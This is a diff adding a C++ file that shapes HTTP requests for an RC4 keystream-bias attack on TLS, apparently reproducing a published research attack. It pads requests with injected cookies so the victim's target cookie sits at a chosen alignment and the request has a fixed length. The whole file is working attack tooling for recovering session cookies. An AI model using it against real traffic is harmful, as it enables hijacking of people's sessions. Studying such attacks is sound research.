@@ -1,0 +1,63 @@
+#include "src/tls/http.h"
+
+#include <cassert>
+
+namespace rc4b {
+
+size_t AlignmentPadding(size_t unpadded_offset, size_t alignment) {
+  return (alignment + 256 - (unpadded_offset % 256)) % 256;
+}
+
+ShapedRequest BuildAlignedRequest(const HttpRequestTemplate& tmpl,
+                                  const Bytes& cookie_value) {
+  assert(cookie_value.size() == tmpl.cookie_length);
+
+  // Known (sniffable) headers preceding the Cookie header, following the
+  // Listing 3 layout. Kept short so the worst-case alignment padding (255
+  // bytes) still fits within the fixed request size.
+  std::string head = tmpl.method_line + "\r\n";
+  head += "Host: " + tmpl.host + "\r\n";
+  head += "User-Agent: Mozilla/5.0 Gecko/20100101\r\n";
+  head += "Accept-Encoding: gzip, deflate\r\n";
+  head += "Connection: keep-alive\r\n";
+  // The attacker aligns the cookie by sizing an injected cookie that the
+  // browser sends *before* the target (it cannot reorder the target itself,
+  // but padding anywhere before the value shifts it equivalently).
+  head += "Cookie: ";
+  const std::string target_prefix = tmpl.cookie_name + "=";
+  size_t offset = head.size() + target_prefix.size();
+  const size_t pad = AlignmentPadding(offset, tmpl.cookie_alignment);
+  if (pad > 0) {
+    // pad = injected name + '=' + value + "; " bytes in front of the target.
+    std::string filler = "p=";
+    const size_t fixed = filler.size() + 2;  // plus "; "
+    assert(pad >= fixed || pad + 256 >= fixed);
+    size_t value_len = (pad >= fixed ? pad : pad + 256) - fixed;
+    filler += std::string(value_len, 'x');
+    filler += "; ";
+    head += filler;
+  }
+  head += target_prefix;
+
+  ShapedRequest out;
+  out.cookie_offset = head.size();
+  assert(out.cookie_offset % 256 == tmpl.cookie_alignment % 256);
+
+  Bytes plaintext(head.begin(), head.end());
+  plaintext.insert(plaintext.end(), cookie_value.begin(), cookie_value.end());
+
+  // Trailing injected cookie pads the request to the fixed total size; the
+  // terminator "\r\n\r\n" ends the request.
+  std::string tail = "; injected1=";
+  const std::string terminator = "\r\n\r\n";
+  assert(plaintext.size() + tail.size() + terminator.size() <= tmpl.total_size);
+  tail += std::string(
+      tmpl.total_size - plaintext.size() - tail.size() - terminator.size(), 'k');
+  tail += terminator;
+  plaintext.insert(plaintext.end(), tail.begin(), tail.end());
+  assert(plaintext.size() == tmpl.total_size);
+  out.plaintext = std::move(plaintext);
+  return out;
+}
+
+}  // namespace rc4b
